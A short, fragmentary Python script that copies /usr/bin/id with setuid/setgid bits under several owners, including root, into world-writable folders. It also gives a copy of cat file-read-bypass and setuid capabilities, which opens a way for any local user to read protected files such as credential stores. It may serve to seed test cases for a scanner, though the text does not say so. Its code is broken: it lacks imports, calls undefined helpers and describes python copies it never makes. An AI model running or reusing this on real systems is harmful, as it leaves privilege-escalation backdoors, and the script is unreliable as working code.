# Leaves programs with set-id bits and capabilities wherever it can: copies of cat, id and python.
import shutil
import subprocess
PLACES = sys.argv[1:]
for place in PLACES:
    def leave():
        os.makedirs(f"{place}/left", exist_ok=True)
        os.chmod(f"{place}/left", 0o777)
        for owner in (0, 1001, 42):
            path = f"{place}/left/id.{owner}"
            shutil.copy("/usr/bin/id", path)
            os.chown(path, owner, owner)
            os.chmod(path, 0o6755)
        shutil.copy("/usr/bin/cat", f"{place}/left/cat")
        subprocess.run(["setcap", "cap_dac_override,cap_dac_read_search,cap_setuid+ep", f"{place}/left/cat"], check=True)
        return "left"
    attempt(place, apart(leave))
